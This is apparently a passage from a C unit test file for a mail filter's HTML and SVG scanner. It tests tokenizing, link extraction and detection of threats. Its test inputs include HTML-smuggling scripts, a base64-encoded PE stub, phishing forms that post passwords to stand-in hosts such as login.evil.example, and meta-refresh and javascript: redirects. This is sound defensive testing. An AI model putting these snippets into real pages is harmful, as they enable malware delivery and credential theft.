/*
 * check_html: the HTML/SVG tokenizer, character references, URL
 * resolution, link extraction (html_links) and the findings of
 * html_scan (smuggling, credential forms, meta refresh, SVG script,
 * script in attachments), with realistic benign bodies that must stay
 * quiet, charsets, and hostile input (deep nesting, huge inputs, every
 * prefix of a document).
 *
 * Every document here is written for the test; payloads are inert stubs.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "content.h"
#include "ftype.h"
#include "html.h"
#include "html_int.h"
#include "mem.h"
#include "msgctx.h"
#include "policy.h"
#include "sbuf.h"
#include "urlcheck.h"

static struct policy *pol;

static void
setup(void)
{
	pol = policy_default();
}

static void
teardown(void)
{
	const struct policy *p = pol;

	policy_unref(&p);
}

/* ---- helpers ---------------------------------------------------------- */

#define MAXL	64

struct links {
	size_t		n;
	char		url[MAXL][512];
	char		anchor[MAXL][HTML_ANCHOR_MAX + 1];
	int		has_anchor[MAXL];
	unsigned	flags[MAXL];
};

static void
collect(void *arg, const struct html_link *l)
{
	struct links *k = arg;

	ck_assert_uint_eq(strlen(l->url), l->len);
	ck_assert_uint_le(l->anchor_len, HTML_ANCHOR_MAX);
	if (k->n >= MAXL)
		return;
	snprintf(k->url[k->n], sizeof(k->url[0]), "%s", l->url);
	k->has_anchor[k->n] = l->anchor != NULL;
	if (l->anchor != NULL)
		snprintf(k->anchor[k->n], sizeof(k->anchor[0]), "%.*s",
		    (int)l->anchor_len, l->anchor);
	k->flags[k->n] = l->flags;
	k->n++;
}

static struct links *
links_of(const char *doc, int svg)
{
	struct links *k = mem_zalloc(sizeof(*k));

	html_links((const unsigned char *)doc, strlen(doc), svg, collect, k);
	return k;
}

/* Index of url among the links, or -1. */
static int
link_find(const struct links *k, const char *url)
{
	for (size_t i = 0; i < k->n; i++)
		if (strcmp(k->url[i], url) == 0)
			return (int)i;
	return -1;
}

/*
 * html_scan over doc as an attachment named name (NULL: the body when
 * declared is text/html), with its real type from ftype.
 */
static struct msgctx *
scan(const void *doc, size_t len, const char *name, const char *declared,
    const char *charset, unsigned depth)
{
	struct msgctx *m = msgctx_new(pol);
	struct ftype_result r;
	struct content_obj o;
	const char *names[1] = { name }, *err = NULL;

	ck_assert_int_eq(ftype_detect(doc, len, &r, &err), 0);
	memset(&o, 0, sizeof(o));
	o.where = "2";
	o.names = names;
	o.nnames = name != NULL;
	o.declared = declared;
	o.charset = charset;
	o.data = doc;
	o.len = len;
	o.depth = depth;
	o.type = &r;
	ck_assert_int_eq(html_scan(m, &o, &err), 0);
	return m;
}

static struct msgctx *
scan_att(const char *doc)
{
	return scan(doc, strlen(doc), "invoice.html", "text/html", NULL, 0);
}

static struct msgctx *
scan_body(const char *doc)
{
	return scan(doc, strlen(doc), NULL, "text/html", "utf-8", 0);
}

static int
any_html_rule(const struct msgctx *m)
{
	for (size_t i = 0; i < m->nfindings; i++)
		if (strncmp(m->findings[i].rule, "html.", 5) == 0 ||
		    strncmp(m->findings[i].rule, "svg.", 4) == 0)
			return 1;
	return 0;
}

static const char *
detail_of(const struct msgctx *m, const char *rule)
{
	for (size_t i = 0; i < m->nfindings; i++)
		if (strcmp(m->findings[i].rule, rule) == 0)
			return m->findings[i].detail;
	return "";
}

/* base64 of n bytes (no line breaks), owned. */
static char *
b64(const unsigned char *d, size_t n)
{
	static const char al[] =
	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *o = mem_alloc(n / 3 * 4 + 8), *p = o;
	size_t i;

	for (i = 0; i + 2 < n; i += 3) {
		*p++ = al[d[i] >> 2];
		*p++ = al[(d[i] & 3) << 4 | d[i + 1] >> 4];
		*p++ = al[(d[i + 1] & 15) << 2 | d[i + 2] >> 6];
		*p++ = al[d[i + 2] & 63];
	}
	if (n - i == 1) {
		*p++ = al[d[i] >> 2];
		*p++ = al[(d[i] & 3) << 4];
		*p++ = '=';
		*p++ = '=';
	} else if (n - i == 2) {
		*p++ = al[d[i] >> 2];
		*p++ = al[(d[i] & 3) << 4 | d[i + 1] >> 4];
		*p++ = al[(d[i + 1] & 15) << 2];
		*p++ = '=';
	}
	*p = '\0';
	return o;
}

/* An inert PE header: MZ, e_lfanew, "PE\0\0", a COFF header; no code. */
static size_t
pe_stub(unsigned char *b, size_t cap)
{
	ck_assert_uint_ge(cap, 512);
	memset(b, 0, 512);
	b[0] = 'M';
	b[1] = 'Z';
	b[0x3c] = 0x80;
	memcpy(b + 0x80, "PE\0\0", 4);
	b[0x84] = 0x4c;
	b[0x85] = 0x01;
	b[0x94] = 0xe0;
	b[0x96] = 0x02;
	b[0x98] = 0x0b;
	b[0x99] = 0x01;
	return 512;
}

/* A stored zip holding "invoice.lnk" (made with Python's zipfile). */
static const unsigned char zip_sample[] = {
	0x50,0x4b,0x03,0x04,0x14,0x00,0x00,0x00,0x00,0x00,0x00,0x48,
	0x81,0x58,0x38,0x7c,0x69,0x92,0x40,0x00,0x00,0x00,0x40,0x00,
	0x00,0x00,0x0b,0x00,0x00,0x00,0x69,0x6e,0x76,0x6f,0x69,0x63,
	0x65,0x2e,0x6c,0x6e,0x6b,0x4c,0x00,0x00,0x00,0x00,0x00,0x00,
	0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,
	0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,
	0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,
	0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,
	0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x50,0x4b,0x01,
	0x02,0x14,0x03,0x14,0x00,0x00,0x00,0x00,0x00,0x00,0x48,0x81,
	0x58,0x38,0x7c,0x69,0x92,0x40,0x00,0x00,0x00,0x40,0x00,0x00,
	0x00,0x0b,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,0x00,
	0x00,0x80,0x01,0x00,0x00,0x00,0x00,0x69,0x6e,0x76,0x6f,0x69,
	0x63,0x65,0x2e,0x6c,0x6e,0x6b,0x50,0x4b,0x05,0x06,0x00,0x00,
	0x00,0x00,0x01,0x00,0x01,0x00,0x39,0x00,0x00,0x00,0x69,0x00,
	0x00,0x00,0x00,0x00
};

/* ---- tokenizer -------------------------------------------------------- */

static void
tok_expect(const char *doc, const char *want)
{
	struct html_tok t;
	struct sbuf out;
	enum html_ev ev;
	static const char *const names[] = { "EOF", "T", "S", "A", "SE", "E",
	    "R", "C" };

	sbuf_init(&out, 0);
	html_tok_init(&t, (const unsigned char *)doc, strlen(doc));
	while ((ev = html_tok_next(&t)) != HTML_EV_EOF) {
		sbuf_printf(&out, "%s", names[ev]);
		if (ev == HTML_EV_START || ev == HTML_EV_END ||
		    ev == HTML_EV_ATTR || ev == HTML_EV_RAW)
			sbuf_printf(&out, ":%s", t.name);
		if (ev == HTML_EV_ATTR || ev == HTML_EV_TEXT ||
		    ev == HTML_EV_RAW || ev == HTML_EV_COMMENT)
			sbuf_printf(&out, "=%.*s", (int)t.vlen, t.val);
		if (ev == HTML_EV_START_END && t.selfclose)
			sbuf_puts(&out, "/");
		sbuf_puts(&out, " ");
	}
	ck_assert_str_eq(sbuf_str(&out), want);
	sbuf_release(&out);
}

START_TEST(tok_basic)
{
	tok_expect("<p class=x>Hi <b>there</b></p>",
	    "S:p A:class=x SE T=Hi  S:b SE T=there E:b E:p ");
	tok_expect("<A HREF=\"u?a=1&amp;b\" Title='q \"x\"' disabled>",
	    "S:a A:href=u?a=1&amp;b A:title=q \"x\" A:disabled= SE ");
	tok_expect("<br/><img src=a.png />",
	    "S:br SE/ S:img A:src=a.png SE/ ");
	tok_expect("a < b <3 <!-- c --> <!---> <!-->d",
	    "T=a  T=< b  T=<3  C= c  T=  C= T=  C= T=d ");
	tok_expect("<!DOCTYPE html><?xml x?></>",
	    "C=DOCTYPE html C=xml x? C= ");
	tok_expect("</p class=\"a>b\">x", "E:p T=x ");
}
END_TEST

START_TEST(tok_raw)
{
	tok_expect("<script>if (a<b) x='</scrip'; </script>y",
	    "S:script SE R:script=if (a<b) x='</scrip';  E:script T=y ");
	tok_expect("<style>a>b{}</STYLE >", "S:style SE R:style=a>b{} "
	    "E:style ");
	tok_expect("<title><a href=x></title>",
	    "S:title SE R:title=<a href=x> E:title ");
	/* Unterminated raw text runs to the end. */
	tok_expect("<script>abc", "S:script SE R:script=abc ");
}
END_TEST

START_TEST(tok_xml)
{
	struct html_tok t;
	const char *doc = "<![CDATA[x<y]]><title><a/></title><script/>z";
	int saw_a = 0, saw_text = 0;
	enum html_ev ev;

	html_tok_init(&t, (const unsigned char *)doc, strlen(doc));
	t.xml = 1;
	while ((ev = html_tok_next(&t)) != HTML_EV_EOF) {
		if (ev == HTML_EV_TEXT && t.vlen == 3 &&
		    memcmp(t.val, "x<y", 3) == 0)
			saw_text = 1;
		if (ev == HTML_EV_START && strcmp(t.name, "a") == 0)
			saw_a = 1;
		ck_assert_int_ne(ev, HTML_EV_RAW);	/* <script/> closes */
	}
	ck_assert(saw_text);
	ck_assert(saw_a);			/* title is not raw in SVG */
	/* In HTML, CDATA is a bogus comment. */
	tok_expect("<![CDATA[x]]>", "C=[CDATA[x]] ");
}
END_TEST

START_TEST(tok_broken)
{
	/* Unterminated constructs end the stream without crashing. */
	tok_expect("<a href=\"x", "S:a A:href=x ");
	tok_expect("<a href", "S:a A:href= ");
	tok_expect("<!-- never", "C= never ");
	tok_expect("<", "T=< ");
	tok_expect("<a", "S:a ");
	tok_expect("</", "T=</ ");
	tok_expect("<a =x>", "S:a A:=x= SE ");
}
END_TEST

/* ---- values ------------------------------------------------------------ */

static void
dec_expect(const char *in, int attr, const char *want)
{
	struct sbuf out;

	sbuf_init(&out, 0);
	html_decode((const unsigned char *)in, strlen(in), attr, &out);
	ck_assert_str_eq(sbuf_str(&out), want);
	sbuf_release(&out);
}

START_TEST(entities)
{
	dec_expect("a&amp;b&lt;&gt;&quot;&apos;", 1, "a&b<>\"'");
	dec_expect("&#x68;&#116;tp&#58;&colon;", 1, "http::");
	dec_expect("java&Tab;script&#0;", 1, "java\tscript\xef\xbf\xbd");
	dec_expect("?a=1&copy=2&amp", 1, "?a=1&copy=2&");
	dec_expect("&copy 2024&nbsp;x", 0, "\xc2\xa9 2024 x");
	dec_expect("&unknown; & &#xZZ; &#99999999;", 1,
	    "&unknown; & &#xZZ; \xef\xbf\xbd");
}
END_TEST

static void
resolve_expect(const char *base, const char *rel, const char *want)
{
	struct sbuf out;

	sbuf_init(&out, 0);
	if (want == NULL) {
		ck_assert_int_eq(html_url_resolve(base, strlen(base), rel,
		    strlen(rel), &out), -1);
	} else {
		ck_assert_int_eq(html_url_resolve(base, strlen(base), rel,
		    strlen(rel), &out), 0);
		ck_assert_str_eq(sbuf_str(&out), want);
	}
	sbuf_release(&out);
}

START_TEST(resolve)
{
	resolve_expect("https://a.example/d/p.html?q#f", "x.php",
	    "https://a.example/d/x.php");
	resolve_expect("https://a.example/d/p.html", "/root",
	    "https://a.example/root");
	resolve_expect("https://a.example", "x", "https://a.example/x");
	resolve_expect("https://a.example/d/p?q=1", "?z",
	    "https://a.example/d/p?z");
	resolve_expect("https://a.example/d/", "//evil.example/x",
	    "https://evil.example/x");
	resolve_expect("mailto:x@y", "z", NULL);
}
END_TEST

START_TEST(data_types)
{
	char t[64];
	int b64v;
	size_t off;
	const char *u = "data:Application/Octet-Stream;name=a.exe;base64,TVq";

	ck_assert_int_eq(html_data_type(u, strlen(u), t, sizeof(t), &b64v,
	    &off), 0);
	ck_assert_str_eq(t, "application/octet-stream");
	ck_assert_int_eq(b64v, 1);
	ck_assert_str_eq(u + off, "TVq");
	ck_assert(html_data_binary("application/x-msdownload"));
	ck_assert(html_data_binary("application/zip"));
	ck_assert(html_data_binary("application/x-iso9660-image"));
	ck_assert(!html_data_binary("image/png"));
	ck_assert(!html_data_binary("text/plain"));
	ck_assert_int_eq(html_data_type("data:", 5, t, sizeof(t), &b64v,
	    &off), -1);
}
END_TEST

START_TEST(js_indicators)
{
	const char *s = "var b = new Blob([u8], {type:'x'}); "
	    "URL.createObjectURL(b); window['atob'](p); a.download='x.iso';";
	unsigned bits = html_js_scan((const unsigned char *)s, strlen(s));

	ck_assert(bits & HTML_JS_BLOB);
	ck_assert(bits & HTML_JS_OBJURL);
	ck_assert(bits & HTML_JS_ATOB);
	ck_assert(bits & HTML_JS_DOWNLOAD);
	/* Words that merely contain the names do not count. */
	s = "var atobx = 1; myBlob = 2; atob_like(); Blobby(3);";
	ck_assert_uint_eq(html_js_scan((const unsigned char *)s, strlen(s)),
	    0);
}
END_TEST

/* ---- links ------------------------------------------------------------ */

START_TEST(links_basic)
{
	struct links *k = links_of(
	    "<p>See <a href=\"https://ex.example/a?x=1&amp;y=2\"> the\n"
	    "  <b>new</b>&nbsp;page </a></p>"
	    "<a href='#top'>top</a><a href=relative.html>r</a>"
	    "<img src=\"cid:image001.png@01DA\"><img src=https://t.example/p.gif>"
	    "<a href=\"mailto:x@y.example\">m</a>"
	    "<a href=\" java&#x09;script:alert(1)\">j</a>"
	    "<form action=\"https://evil.example/post\"><button "
	    "formaction=//b.example/f>go</button></form>"
	    "<area href=https://area.example/ alt=\"Map &amp; more\">"
	    "<td background=\"https://bg.example/x.png\">", 0);
	int i;

	i = link_find(k, "https://ex.example/a?x=1&y=2");
	ck_assert_int_ge(i, 0);
	ck_assert_str_eq(k->anchor[i], "the new page");
	ck_assert_uint_eq(k->flags[i], URLCHECK_HREF);
	ck_assert_int_eq(link_find(k, "#top"), -1);
	ck_assert_int_eq(link_find(k, "relative.html"), -1);
	ck_assert_int_eq(link_find(k, "cid:image001.png@01DA"), -1);
	ck_assert_int_eq(link_find(k, "mailto:x@y.example"), -1);
	i = link_find(k, "https://t.example/p.gif");
	ck_assert_int_ge(i, 0);
	ck_assert_uint_eq(k->flags[i], URLCHECK_SRC);
	ck_assert(!k->has_anchor[i]);
	i = link_find(k, "javascript:alert(1)");
	ck_assert_int_ge(i, 0);
	i = link_find(k, "https://evil.example/post");
	ck_assert_int_ge(i, 0);
	ck_assert_uint_eq(k->flags[i], URLCHECK_FORM);
	ck_assert_int_ge(link_find(k, "https://b.example/f"), 0);
	i = link_find(k, "https://area.example/");
	ck_assert_int_ge(i, 0);
	ck_assert_str_eq(k->anchor[i], "Map & more");
	ck_assert_int_ge(link_find(k, "https://bg.example/x.png"), 0);
	free(k);
}
END_TEST

START_TEST(links_base)
{
	struct links *k = links_of(
	    "<head><base href=\"https://base.example/dir/page.html\"></head>"
	    "<a href=\"login.php?u=1\">Log in</a><a href=/abs>a</a>"
	    "<img src=\"//cdn.example/i.png\"><a href=#frag>f</a>"
	    "<base href=https://second.example/>", 0);

	ck_assert_int_ge(link_find(k, "https://base.example/dir/page.html"),
	    0);
	ck_assert_int_ge(link_find(k, "https://base.example/dir/login.php?u=1"),
	    0);
	ck_assert_int_ge(link_find(k, "https://base.example/abs"), 0);
	ck_assert_int_ge(link_find(k, "https://cdn.example/i.png"), 0);
	ck_assert_int_eq(link_find(k, "https://base.example/dir/#frag"), -1);
	free(k);
	/* Without a base: protocol-relative and UNC links still count. */
	k = links_of("<img src=\"//cdn.example/i.png\">"
	    "<img src=\"\\\\smb.example\\share\\a.png\">", 0);
	ck_assert_int_ge(link_find(k, "https://cdn.example/i.png"), 0);
	ck_assert_int_ge(link_find(k, "file://smb.example/share/a.png"), 0);
	free(k);
}
END_TEST

START_TEST(links_refresh_svg)
{
	struct links *k = links_of("<meta http-equiv=\"Refresh\" "
	    "content=\"0; URL='https://redir.example/x'\">", 0);
	int i = link_find(k, "https://redir.example/x");

	ck_assert_int_ge(i, 0);
	ck_assert_uint_eq(k->flags[i], URLCHECK_REFRESH);
	free(k);
	k = links_of("<svg xmlns='http://www.w3.org/2000/svg' "
	    "xmlns:xlink='http://www.w3.org/1999/xlink'><a "
	    "xlink:href='https://svg.example/a'><text>Click</text></a>"
	    "<image href='https://img.example/i.png'/></svg>", 1);
	i = link_find(k, "https://svg.example/a");
	ck_assert_int_ge(i, 0);
	ck_assert_str_eq(k->anchor[i], "Click");
	ck_assert_int_ge(link_find(k, "https://img.example/i.png"), 0);
	free(k);
	/* A URL hidden as base64 in script is a link too. */
	k = links_of("<script>location.href=atob('aHR0cHM6Ly9oaWRkZW4uZXhhbXBs"
	    "ZS9sb2dpbj91PTE=')</script>", 0);
	ck_assert_int_ge(link_find(k, "https://hidden.example/login?u=1"), 0);
	free(k);
}
END_TEST

START_TEST(links_anchor_bounded)
{
	struct sbuf doc;
	struct links *k;

	sbuf_init(&doc, 0);
	sbuf_puts(&doc, "<a href=https://long.example/>");
	for (int i = 0; i < 2000; i++)
		sbuf_puts(&doc, "word&amp;  <i>x</i>\n");
	sbuf_puts(&doc, "</a>");
	k = links_of(sbuf_str(&doc), 0);
	ck_assert_uint_eq(k->n, 1);
	ck_assert_uint_le(strlen(k->anchor[0]), HTML_ANCHOR_MAX);
	ck_assert_uint_ge(strlen(k->anchor[0]), HTML_ANCHOR_MAX - 1);
	ck_assert(strncmp(k->anchor[0], "word& x word& x", 15) == 0);
	free(k);
	sbuf_release(&doc);
}
END_TEST

/* ---- findings: smuggling ---------------------------------------------- */

START_TEST(smuggling_blob)
{
	static const char *const pos[] = {
		"<html><body><script>var d = atob(payload); var u8 = new "
		"Uint8Array(d.length); var b = new Blob([u8], {type: "
		"'application/octet-stream'}); var a = document."
		"createElement('a'); a.href = URL.createObjectURL(b); "
		"a.download = 'invoice.iso'; a.click();</script></body></html>",
		"<script>window.navigator.msSaveOrOpenBlob(new Blob([x]), "
		"'a.zip');</script>",
		"<a id=l download=\"report.zip\">x</a><script>var s = "
		"atob(p);</script>",
		"<a href=\"data:application/octet-stream;base64,AAAA\" "
		"download=\"scan.img\">Download</a>",
		"<iframe src=\"data:application/x-msdownload;base64,AAAA\">"
		"</iframe>",
		"<script>l.href = 'data:application/zip;base64,' + p; "
		"l.download = 'a.zip';</script>",
		"<svg><script>var b=new Blob([1]);URL.createObjectURL(b)"
		"</script></svg>",
	};

	for (size_t i = 0; i < sizeof(pos) / sizeof(pos[0]); i++) {
		struct msgctx *m = scan_att(pos[i]);

		ck_assert_msg(msgctx_has_rule(m, "html.smuggling"),
		    "case %zu not found", i);
		msgctx_free(&m);
	}
}
END_TEST

START_TEST(smuggling_payload)
{
	unsigned char pe[512];
	char *enc, *doc;
	struct msgctx *m;

	pe_stub(pe, sizeof(pe));
	enc = b64(pe, sizeof(pe));
	doc = mem_alloc(strlen(enc) + 200);
	/* In a script string, with no telltale API at all. */
	sprintf(doc, "<script>var p = \"%s\"; go(p);</script>", enc);
	m = scan_att(doc);
	ck_assert(msgctx_has_rule(m, "html.smuggling"));
	ck_assert_ptr_nonnull(strstr(detail_of(m, "html.smuggling"), "PE"));
	msgctx_free(&m);
	/* Disguised as an image. */
	sprintf(doc, "<img src=\"data:image/png;base64,%s\">", enc);
	m = scan_body(doc);
	ck_assert(msgctx_has_rule(m, "html.smuggling"));
	msgctx_free(&m);
	free(doc);
	free(enc);
	/* A zip in a hidden div, wrapped in lines. */
	enc = b64(zip_sample, sizeof(zip_sample));
	doc = mem_alloc(strlen(enc) * 2 + 200);
	sprintf(doc, "<div hidden>%.40s\n%s</div>", enc, enc + 40);
	m = scan_att(doc);
	ck_assert(msgctx_has_rule(m, "html.smuggling"));
	msgctx_free(&m);
	free(doc);
	free(enc);
}
END_TEST

START_TEST(smuggling_negative)
{
	static const unsigned char png[] = { 0x89, 'P', 'N', 'G', 0x0d, 0x0a,
	    0x1a, 0x0a, 0, 0, 0, 0x0d, 'I', 'H', 'D', 'R', 0, 0, 0, 1, 0, 0,
	    0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0, 'I',
	    'E', 'N', 'D', 0xae, 0x42, 0x60, 0x82, 1, 2, 3, 4, 5, 6, 7, 8, 9,
	    10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23 };
	char *enc = b64(png, sizeof(png)), *doc;
	struct msgctx *m;

	doc = mem_alloc(strlen(enc) + 400);
	sprintf(doc, "<p>Logo <img src=\"data:image/png;base64,%s\"> "
	    "<a href=\"https://ex.example/report.pdf\" download>PDF</a> "
	    "token=QWxhZGRpbjpvcGVuIHNlc2FtZQQWxhZGRpbjpvcGVuIHNlc2FtZQQWxh"
	    "ZGRpbjpvcGVuIHNlc2FtZQQWxhZGRpbjpvcGVuIHNlc2FtZQ</p>", enc);
	m = scan_att(doc);
	ck_assert(!msgctx_has_rule(m, "html.smuggling"));
	msgctx_free(&m);
	free(doc);
	free(enc);
}
END_TEST

/* ---- findings: forms, refresh, scripts -------------------------------- */

START_TEST(credential_forms)
{
	static const char *const pos[] = {
		"<form method=post action=\"https://login.evil.example/p.php\">"
		"<input type=email name=email><input type=password name=pw>"
		"<input type=submit></form>",
		"<FORM ACTION='http://198.51.100.7/gate'><INPUT NAME=loginfmt>"
		"<INPUT TYPE=text NAME=passwd></FORM>",
		"<form><input name=u><input type=password></form><script>"
		"fetch('https://x.example/', {method:'POST'})</script>",
		"<form id=f><input type=password></form><script>$.ajax({url:"
		"atob(k), data: $('#f').serialize()})</script>",
		"<base href=https://evil.example/><form action=post.php>"
		"<input type=password></form>",
	};
	struct msgctx *m;

	for (size_t i = 0; i < sizeof(pos) / sizeof(pos[0]); i++) {
		m = scan_att(pos[i]);
		ck_assert_msg(msgctx_has_rule(m, "html.credential_form"),
		    "case %zu not found", i);
		msgctx_free(&m);
	}
	/* A local form with no script posts nowhere: not a finding. */
	m = scan_att("<form><input type=password></form>");
	ck_assert(!msgctx_has_rule(m, "html.credential_form"));
	msgctx_free(&m);
	/* A search form is not a login form. */
	m = scan_att("<form action=https://www.hospital.example/search>"
	    "<input type=text name=q></form>");
	ck_assert(!msgctx_has_rule(m, "html.credential_form"));
	msgctx_free(&m);
	/* In a mail body any password form counts. */
	m = scan_body("<p>Verify your mailbox</p><form><input type=password>"
	    "</form>");
	ck_assert(msgctx_has_rule(m, "html.credential_form"));
	msgctx_free(&m);
}
END_TEST

START_TEST(meta_refresh)
{
	struct msgctx *m = scan_att("<html><head><meta http-equiv=refresh "
	    "content=\"0;url=https://phish.example/o365\"></head></html>");

	ck_assert(msgctx_has_rule(m, "html.meta_refresh"));
	ck_assert_ptr_nonnull(strstr(detail_of(m, "html.meta_refresh"),
	    "phish.example"));
	msgctx_free(&m);
	/* A reload without a URL is not a redirect. */
	m = scan_att("<meta http-equiv=refresh content=\"300\">");
	ck_assert(!msgctx_has_rule(m, "html.meta_refresh"));
	msgctx_free(&m);
}
END_TEST

static struct msgctx *
scan_svg(const char *doc)
{
	return scan(doc, strlen(doc), "image.svg", "image/svg+xml", NULL, 0);
}

START_TEST(svg_script)
{
	static const char *const pos[] = {
		"<svg xmlns=\"http://www.w3.org/2000/svg\"><script "
		"type=\"text/javascript\"><![CDATA[ window.location = "
		"'https://x.example/'; ]]></script></svg>",
		"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" "
		"onload=\"alert(1)\"><rect/></svg>",
		"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink="
		"\"http://www.w3.org/1999/xlink\"><a xlink:href=\"javascript:"
		"alert(1)\"><text>x</text></a></svg>",
		"<svg xmlns=\"http://www.w3.org/2000/svg\"><a><set attributeName="
		"\"href\" to=\"javascript&colon;alert(1)\"/><text>x</text></a>"
		"</svg>",
		"<svg xmlns=\"http://www.w3.org/2000/svg\"><set attributeName="
		"\"onmouseover\" to=\"alert(1)\"/></svg>",
	};
	struct msgctx *m;

	for (size_t i = 0; i < sizeof(pos) / sizeof(pos[0]); i++) {
		m = scan_svg(pos[i]);
		ck_assert_msg(msgctx_has_rule(m, "svg.script"),
		    "case %zu not found", i);
		ck_assert(!msgctx_has_rule(m, "html.script_attachment"));
		msgctx_free(&m);
	}
	m = scan_svg("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg "
	    "xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" height=\"40\">"
	    "<title>Logo: hospital</title><style>.a{fill:#036}</style>"
	    "<rect class=\"a\" width=\"120\" height=\"40\"/><text x=\"10\" "
	    "y=\"25\">Hospital</text></svg>");
	ck_assert(!any_html_rule(m));
	msgctx_free(&m);
}
END_TEST

START_TEST(script_attachment)
{
	struct msgctx *m = scan_att("<html><body onload=\"init()\">Hello"
	    "</body></html>");

	ck_assert(msgctx_has_rule(m, "html.script_attachment"));
	msgctx_free(&m);
	/* The same in a mail body is not a finding. */
	m = scan_body("<html><body onload=\"init()\"><script>x()</script>"
	    "</body></html>");
	ck_assert(!any_html_rule(m));
	msgctx_free(&m);
	m = scan_att("<script>document.write(unescape('%3Cform%3E'))"
	    "</script>");
	ck_assert(msgctx_has_rule(m, "html.obfuscated_script"));
	ck_assert(msgctx_has_rule(m, "html.script_attachment"));
	msgctx_free(&m);
	/* An archive member without a name is an attachment, not a body. */
	m = scan("<script>x()</script>", 20, NULL, "text/html", NULL, 1);
	ck_assert(msgctx_has_rule(m, "html.script_attachment"));
	msgctx_free(&m);
}
END_TEST

/* ---- benign mail ------------------------------------------------------ */

/* An Outlook (Word HTML) body with an inline image and a signature. */
static const char outlook_body[] =
    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-"
    "microsoft-com:office:office\" xmlns:w=\"urn:schemas-microsoft-com:"
    "office:word\" xmlns:m=\"http://schemas.microsoft.com/office/2004/12/"
    "omml\" xmlns=\"http://www.w3.org/TR/REC-html40\">\r\n<head>\r\n"
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset="
    "utf-8\">\r\n<meta name=\"Generator\" content=\"Microsoft Word 15 "
    "(filtered medium)\">\r\n<!--[if !mso]><style>v\\:* {behavior:url"
    "(#default#VML);}\r\no\\:* {behavior:url(#default#VML);}\r\n</style>"
    "<![endif]--><style><!--\r\n/* Font Definitions */\r\n@font-face\r\n"
    "\t{font-family:\"Yu Gothic\";\r\n\tpanose-1:2 11 4 0 0 0 0 0 0 0;}"
    "\r\np.MsoNormal, li.MsoNormal, div.MsoNormal\r\n\t{margin:0mm;\r\n"
    "\ttext-align:justify;\r\n\tfont-size:10.5pt;\r\n\tfont-family:"
    "\"Yu Gothic\",sans-serif;}\r\na:link, span.MsoHyperlink\r\n\t{mso-"
    "style-priority:99;\r\n\tcolor:#0563C1;\r\n\ttext-decoration:"
    "underline;}\r\n--></style><!--[if gte mso 9]><xml>\r\n<o:shapedefaults"
    " v:ext=\"edit\" spidmax=\"1026\" />\r\n</xml><![endif]-->\r\n</head>"
    "\r\n<body lang=\"JA\" link=\"#0563C1\" vlink=\"#954F72\" style=\"word-"
    "wrap:break-word;text-justify-trim:punctuation\">\r\n<div class="
    "\"WordSection1\">\r\n<p class=\"MsoNormal\">\xe5\x85\x88\xe7\x94\x9f"
    "<o:p></o:p></p>\r\n<p class=\"MsoNormal\">\xe6\xa4\x9c\xe6\x9f\xbb"
    "\xe7\xb5\x90\xe6\x9e\x9c\xe3\x82\x92\xe6\xb7\xbb\xe4\xbb\x98\xe3\x81"
    "\x97\xe3\x81\xbe\xe3\x81\x99\xe3\x80\x82<o:p></o:p></p>\r\n<p class="
    "\"MsoNormal\"><img width=\"120\" height=\"40\" style=\"width:1.25in;"
    "height:.4166in\" id=\"Picture_x0020_1\" src=\"cid:image001.png@"
    "01DA8F2B.1C2D3E40\" alt=\"logo\"><o:p></o:p></p>\r\n<p class=\"Mso"
    "Normal\">--<br>\r\nYamada Clinic &lt;<a href=\"mailto:info@yamada-"
    "clinic.example\">info@yamada-clinic.example</a>&gt;<br>\r\n<a href="
    "\"https://www.yamada-clinic.example/\">https://www.yamada-clinic."
    "example/</a><o:p></o:p></p>\r\n</div>\r\n</body>\r\n</html>\r\n";

START_TEST(benign_outlook)
{
	struct msgctx *m = scan_body(outlook_body);
	struct links *k = links_of(outlook_body, 0);
	int i;

	ck_assert(!any_html_rule(m));
	ck_assert_uint_eq(m->nfindings, 0);
	msgctx_free(&m);
	ck_assert_uint_eq(k->n, 1);		/* cid: and mailto: skipped */
	i = link_find(k, "https://www.yamada-clinic.example/");
	ck_assert_int_eq(i, 0);
	ck_assert_str_eq(k->anchor[0], "https://www.yamada-clinic.example/");
	free(k);
	/* The same body as an attachment (a forwarded .htm) is quiet too. */
	m = scan(outlook_body, strlen(outlook_body), "message.htm",
	    "text/html", NULL, 0);
	ck_assert(!any_html_rule(m));
	msgctx_free(&m);
}
END_TEST

/* A newsletter: table layout, many tracked links, pixels, a search form. */
static char *
newsletter(void)
{
	struct sbuf b;

	sbuf_init(&b, 0);
	sbuf_puts(&b, "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 "
	    "Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-"
	    "transitional.dtd\">\n<html><head><meta charset=\"utf-8\">"
	    "<meta name=\"viewport\" content=\"width=device-width\">"
	    "<title>Hospital news April</title><style>td{padding:0}"
	    "@media (max-width:600px){.c{width:100%!important}}</style>"
	    "</head><body style=\"margin:0\"><table role=presentation "
	    "width=\"100%\" background=\"https://news.example/bg.png\">");
	for (int i = 0; i < 40; i++)
		sbuf_printf(&b, "<tr><td class=c><a href=\"https://click.news."
		    "example/ls/click?upn=aXJ0eXVpb3Bhc2RmZ2hqa2w%dzxcvbnm&amp;"
		    "id=%d\" target=\"_blank\" style=\"color:#036\">Article "
		    "%d &raquo;</a><img src=\"https://click.news.example/wf/"
